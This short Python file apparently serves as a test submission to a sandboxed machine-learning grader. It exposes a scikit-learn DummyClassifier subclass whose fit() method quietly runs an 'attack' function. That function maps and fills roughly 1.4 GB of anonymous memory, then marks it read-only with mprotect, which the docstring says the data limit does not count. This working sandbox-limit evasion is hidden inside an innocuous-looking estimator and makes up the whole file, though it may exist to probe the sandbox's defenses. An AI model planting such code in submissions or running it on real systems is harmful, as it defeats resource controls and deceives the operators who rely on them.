"""memory: writes memory and makes it read-only, which the data limit does not count"""

import ctypes
import mmap

from sklearn.dummy import DummyClassifier


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    held = []
    for _ in range(90):
        piece = mmap.mmap(-1, 16 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE)
        address = ctypes.addressof(ctypes.c_char.from_buffer(piece))
        ctypes.memset(address, 1, 16 << 20)
        libc.mprotect(ctypes.c_void_p(address), ctypes.c_size_t(16 << 20), mmap.PROT_READ)
        held.append(piece)


class Model(DummyClassifier):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
